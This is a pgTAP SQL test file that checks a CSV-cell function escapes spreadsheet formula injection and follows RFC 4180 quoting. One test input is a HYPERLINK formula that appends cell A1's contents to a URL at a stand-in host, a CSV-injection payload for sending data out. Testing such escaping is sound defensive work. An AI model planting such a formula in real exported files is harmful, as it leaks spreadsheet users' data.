-- 07_csv_cells.sql: ct_csv, one CSV cell: RFC 4180 quoting, and no cell a
-- spreadsheet would run as a formula (sql/011_csv_cells.sql).
BEGIN;
SELECT plan(17);

-- A formula's first characters: a quote in front, and quoted.
SELECT is(ct_csv('=HYPERLINK("http://x.example/?"&A1,"open")'),
    '"''=HYPERLINK(""http://x.example/?""&A1,""open"")"', '= is neutralized');
SELECT is(ct_csv('+SUM(A1:A9)'), '"''+SUM(A1:A9)"', '+ is neutralized');
SELECT is(ct_csv('-2+3'), '"''-2+3"', '- before a formula is neutralized');
SELECT is(ct_csv('@SUM(A1)'), '"''@SUM(A1)"', '@ is neutralized');
SELECT is(ct_csv(E'\t=1+1'), E'"''\t=1+1"', 'a leading tab is neutralized');
SELECT is(ct_csv(E'\r=1+1'), E'"''\r=1+1"', 'a leading carriage return is neutralized');
SELECT is(ct_csv('-'), '"''-"', 'a lone minus is neutralized');
SELECT is(ct_csv('+1 (415) 555-0100'), '"''+1 (415) 555-0100"',
    'a formatted number is not a number: neutralized');
-- Numbers and phone numbers stay numbers.
SELECT is(ct_csv('+15551234567'), '+15551234567', 'an E.164 phone number stays');
SELECT is(ct_csv('-3.5'), '-3.5', 'a negative number stays');
SELECT is(ct_csv('42'), '42', 'a number stays');
SELECT is(ct_csv('0.0123'), '0.0123', 'a cost stays');
-- The rest as RFC 4180 says.
SELECT is(ct_csv('Doe, "Jim" Jr.'), '"Doe, ""Jim"" Jr."', 'a comma and quotes are quoted');
SELECT is(ct_csv(E'line one\nline two'), E'"line one\nline two"', 'a line break is quoted');
SELECT is(ct_csv('Maria = the caller'), 'Maria = the caller', 'a formula character inside stays');
SELECT is(ct_csv(''), '', 'an empty cell stays empty');
SELECT is(ct_csv(NULL), '', 'NULL is an empty cell');

SELECT * FROM finish();
ROLLBACK;
